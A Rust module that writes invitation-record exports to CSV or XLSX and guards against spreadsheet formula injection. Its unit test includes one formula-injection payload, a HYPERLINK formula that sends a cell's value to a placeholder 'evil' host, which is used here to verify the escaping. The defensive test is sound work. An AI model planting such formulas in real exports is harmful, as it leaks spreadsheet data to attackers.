//! Writing the rows of an export: csv, or xlsx in constant-memory mode (rows go to disk as they
//! are written, so a million rows take little memory). Pure file work: no NATS here.

use serde_json::Value;
use std::io::Write;
use std::path::Path;

/// The columns of an export, as `(header, path into an admin model)`.
pub const COLUMNS: [(&str, &str); 16] = [
    ("invite_id", "/invite_id"),
    ("created_at", "/created_at"),
    ("status", "/status"),
    ("approve_description", "/approve_description"),
    ("user_id", "/user/id"),
    ("user_name", "/user/name"),
    ("user_phone", "/user/phone"),
    ("company_name", "/user/company_name"),
    ("department", "/user/department"),
    ("position", "/user/position"),
    ("area", "/user/area"),
    ("recommend_user_id", "/recommend_user/id"),
    ("recommend_user_name", "/recommend_user/name"),
    ("recommend_user_phone", "/recommend_user/phone"),
    ("resource_id", "/resource/id"),
    ("resource_name", "/resource/name"),
];

/// The cells of one admin model, in [`COLUMNS`] order ("" for null).
pub fn cells(model: &Value) -> Vec<String> {
    COLUMNS
        .iter()
        .map(|(_, path)| match model.pointer(path) {
            Some(Value::String(s)) => s.clone(),
            Some(Value::Null) | None => String::new(),
            Some(other) => other.to_string(),
        })
        .collect()
}

#[derive(Debug, thiserror::Error)]
pub enum FileError {
    #[error("io: {0}")]
    Io(#[from] std::io::Error),
    #[error("xlsx: {0}")]
    Xlsx(#[from] rust_xlsxwriter::XlsxError),
}

/// Receives rows one at a time and writes them out.
pub trait RowSink {
    fn row(&mut self, cells: &[String]) -> Result<(), FileError>;
    fn finish(self: Box<Self>) -> Result<(), FileError>;
}

struct Csv(std::io::BufWriter<std::fs::File>);

/// One CSV cell. A cell that a spreadsheet would read as a formula (starting with `=`, `+`, `-`,
/// `@`, tab or CR: OWASP's CSV injection rule) gets a leading `'`, so it stays text.
pub fn csv_field(s: &str) -> String {
    let s: std::borrow::Cow<'_, str> = match s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        true => format!("'{s}").into(),
        false => s.into(),
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

impl RowSink for Csv {
    fn row(&mut self, cells: &[String]) -> Result<(), FileError> {
        let line: Vec<String> = cells.iter().map(|c| csv_field(c)).collect();
        writeln!(self.0, "{}", line.join(","))?;
        Ok(())
    }
    fn finish(mut self: Box<Self>) -> Result<(), FileError> {
        self.0.flush()?;
        Ok(())
    }
}

struct Xlsx {
    workbook: rust_xlsxwriter::Workbook,
    path: std::path::PathBuf,
    next: u32,
}

impl RowSink for Xlsx {
    fn row(&mut self, cells: &[String]) -> Result<(), FileError> {
        let sheet = self.workbook.worksheet_from_index(0)?;
        for (col, value) in cells.iter().enumerate() {
            sheet.write_string(self.next, col as u16, value)?;
        }
        self.next += 1;
        Ok(())
    }
    fn finish(mut self: Box<Self>) -> Result<(), FileError> {
        self.workbook.save(&self.path)?;
        Ok(())
    }
}

/// A sink writing `format` ("csv" or "xlsx") to `path`, with the header row already written.
pub fn sink(format: &str, path: &Path) -> Result<Box<dyn RowSink>, FileError> {
    let header: Vec<String> = COLUMNS.iter().map(|(h, _)| h.to_string()).collect();
    let mut sink: Box<dyn RowSink> = if format == "csv" {
        Box::new(Csv(std::io::BufWriter::new(std::fs::File::create(path)?)))
    } else {
        let mut workbook = rust_xlsxwriter::Workbook::new();
        let _ = workbook.add_worksheet_with_constant_memory();
        let _ = workbook.worksheet_from_index(0)?;
        Box::new(Xlsx {
            workbook,
            path: path.to_path_buf(),
            next: 0,
        })
    };
    sink.row(&header)?;
    Ok(sink)
}

/// Writes every admin-view row matching `filters` (newest first) from `conn` to `path` in
/// `format`, calling `progress(done, count)` after each row. Returns the number of rows.
pub fn write_rows(
    conn: &rusqlite::Connection,
    filters: &invitebus_events::query::AdminFilters,
    format: &str,
    path: &Path,
    people: &mut std::collections::HashSet<String>,
    key: &invitebus_keys::MasterKey,
    mut progress: impl FnMut(i64, i64) -> Result<(), String>,
) -> Result<i64, String> {
    use invitebus_views::admin::{admin_model, admin_where, ADMIN_SELECT};
    let (clause, args) = admin_where(filters, key);
    let count: i64 = conn
        .query_row(
            &format!("SELECT COUNT(*) FROM records r WHERE {clause}"),
            rusqlite::params_from_iter(args.iter()),
            |x| x.get(0),
        )
        .map_err(|e| e.to_string())?;
    let mut out = sink(format, path).map_err(|e| e.to_string())?;
    let mut stmt = conn
        .prepare(&format!("{ADMIN_SELECT} WHERE {clause} ORDER BY r.seq DESC"))
        .map_err(|e| e.to_string())?;
    let mut rows = stmt
        .query(rusqlite::params_from_iter(args.iter()))
        .map_err(|e| e.to_string())?;
    let mut done = 0i64;
    while let Some(row) = rows.next().map_err(|e| e.to_string())? {
        let model = admin_model(row).map_err(|e| e.to_string())?;
        out.row(&cells(&model)).map_err(|e| e.to_string())?;
        // Whose profile the row shows: a forget of either erases the file.
        for who in [&model["user"]["id"], &model["recommend_user"]["id"]] {
            if let Some(id) = who.as_str() {
                if !people.contains(id) {
                    people.insert(id.to_string());
                }
            }
        }
        done += 1;
        progress(done, count)?;
    }
    out.finish().map_err(|e| e.to_string())?;
    Ok(done)
}

#[cfg(test)]
mod tests {
    use super::csv_field;

    #[test]
    fn formulas_stay_text_and_quoting_still_works() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\""
        );
        for bad in ["+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert!(csv_field(bad).trim_start_matches('"').starts_with('\''), "{bad:?}");
        }
        assert_eq!(csv_field("Fang"), "Fang");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field(""), "");
    }
}
